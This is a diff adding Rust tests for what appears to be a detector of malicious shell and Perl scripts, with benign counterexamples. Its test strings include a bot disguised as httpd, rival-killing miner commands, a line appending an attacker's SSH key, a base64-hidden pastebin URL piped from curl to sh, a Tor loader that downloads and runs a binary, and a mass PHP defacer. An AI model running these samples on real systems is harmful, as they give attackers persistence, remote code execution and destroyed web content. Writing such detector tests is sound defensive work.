@@ -311,3 +311,67 @@ fn a_ruby_shell_and_a_bash_shell_on_a_handle_of_its_own_are_found() {
     let check = "#!/bin/bash\nexec 3<> /dev/tcp/example.org/80\necho -e \"HEAD / HTTP/1.0\\r\\n\" >&3\nread -r -u 3 status\necho \"$status\"\n";
     assert!(whys(check).is_empty(), "{:?}", whys(check));
 }
+
+#[test]
+fn a_bot_renamed_after_the_web_server_is_found() {
+    // fresh95's Stealth ShellBot, cut before its IRC loop: the disguise alone.
+    let bot = "#!/usr/bin/perl\nmy $processo = '/usr/local/apache/bin/httpd -DSSL';\nuse IO::Socket;\n\
+               $0=\"$processo\".\"\\0\";\nmy $pid=fork;\nexit if $pid;\n";
+    assert_eq!(whys(bot), [Why::HidesAsSystemProcess]);
+    let python = "import socket, os, setproctitle\nsetproctitle.setproctitle('[kworker/0:1]')\n\
+                  if os.fork(): exit()\ns = socket.socket()\n";
+    assert_eq!(whys(python), [Why::HidesAsSystemProcess]);
+    // A server naming its own workers, and a script naming itself without a connection.
+    let server = "#!/usr/bin/perl\nuse IO::Socket;\nmy $pid = fork;\n$0 = 'myapp: worker';\n";
+    let named = "#!/usr/bin/perl\n$0 = 'httpd-log-rotate';\nmy $pid = fork;\n";
+    assert!(whys(server).is_empty() && whys(named).is_empty(), "{:?} {:?}", whys(server), whys(named));
+}
+
+#[test]
+fn a_miners_installer_killing_its_rivals_and_adding_a_key_is_found() {
+    let killer = "#!/bin/sh\nchattr -i /tmp/sysguard\n\
+                  netstat -anp | grep :3333 | awk '{print $7}' | awk -F '[/]' '{print $1}' | xargs kill -9\n\
+                  netstat -anp | grep :5555 | awk '{print $7}' | awk -F '[/]' '{print $1}' | xargs kill -9\n\
+                  pkill -9 -f sysguard\npkill -9 -f networkservice\n";
+    assert_eq!(whys(killer), [Why::KillsRivals]);
+    let busy = "#!/bin/bash\nps axf -o \"pid %cpu\" | awk '{if($2>=50.0) print $1}' | while read pid; do\n\
+                cat /proc/$pid/cmdline | grep -a -E \"$sys|$xmr\" || kill -9 $pid\ndone\ncd /tmp\n";
+    assert_eq!(whys(busy), [Why::KillsRivals]);
+    let key = format!(
+        "#!/bin/sh\nmkdir -p ~/.ssh\necho \"ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ{} root@ubuntu\" >> ~/.ssh/authorized_keys\n",
+        "x".repeat(80)
+    );
+    assert_eq!(whys(&key), [Why::AddsSshKey]);
+    // A restart script stopping the site's own workers; a key listed, not written.
+    let restart =
+        "#!/bin/sh\npkill -f queue:work\npkill -f horizon\npkill -f node\npkill -f 'php artisan'\nphp artisan up\n";
+    let listed = format!("#!/bin/sh\n# Add this to authorized_keys:\n# ssh-ed25519 AAAAC3Nz{}\n", "y".repeat(70));
+    assert!(whys(restart).is_empty() && whys(&listed).is_empty(), "{:?} {:?}", whys(restart), whys(&listed));
+}
+
+#[test]
+fn a_miners_wallet_hidden_addresses_and_a_tor_loader_are_found() {
+    let wallet = "49dnvYkWkZNPrDj3KF8fR1BHLBfiVArU6Hu61N9gtrZWgbRptntwht5JUrXX1ZeofwPwC6fXNxPZfGjNEChXttwWE3WGURa";
+    let config = format!(
+        "#!/bin/bash\necho '{{\"pools\": [{{\"url\": \"pool.minexmr.com:5555\", \"user\": \"{wallet}.linux\"}}]}}' > config.json\n"
+    );
+    assert_eq!(whys(&config), [Why::StartsProgram]);
+    // `https://pastebin.com/raw/Qezd3gBv`, hidden, then fetched.
+    let hidden = "#!/bin/bash\nhouse=$(echo aHR0cHM6Ly9wYXN0ZWJpbi5jb20vcmF3L1FlemQzZ0J2|base64 -d)\n\
+                  curl -fsSL $house | sh\n";
+    assert_eq!(whys(hidden), [Why::DownloadsProgram]);
+    let tor =
+        "#!/bin/bash\nc=\"curl -4fsSLkA- -m200\"\n$c -x socks5h://$s:9050 $t.onion$f -o$x\nchmod +x $x;$x;rm -f $x\n";
+    assert_eq!(whys(tor), [Why::DownloadsProgram]);
+    // Text decoded that is no address, and a wallet in a donation note.
+    let decoded = "#!/bin/bash\nname=$(echo aGVsbG8gd29ybGQgZnJvbSBoZXJl | base64 -d)\ncurl -s https://api.example/ -d \"$name\"\n";
+    let donation = format!("#!/bin/sh\n# Donations welcome: {wallet}\necho done\n");
+    assert!(whys(decoded).is_empty() && whys(&donation).is_empty(), "{:?} {:?}", whys(decoded), whys(&donation));
+}
+
+#[test]
+fn a_defacer_overwriting_every_page_it_globs_is_found() {
+    let perl = "#!/usr/bin/perl -w\n#Masss Defacer v2.0\n$def = 'YOUR DEFACE PAGE HERE';\n\
+                my @php = glob(\"*.php\");\nforeach my $deface(@php){ open(DEFACE, '>', $deface); print DEFACE $def; close(DEFACE) }\n";
+    assert_eq!(whys(perl), [Why::MassDefacer]);
+}
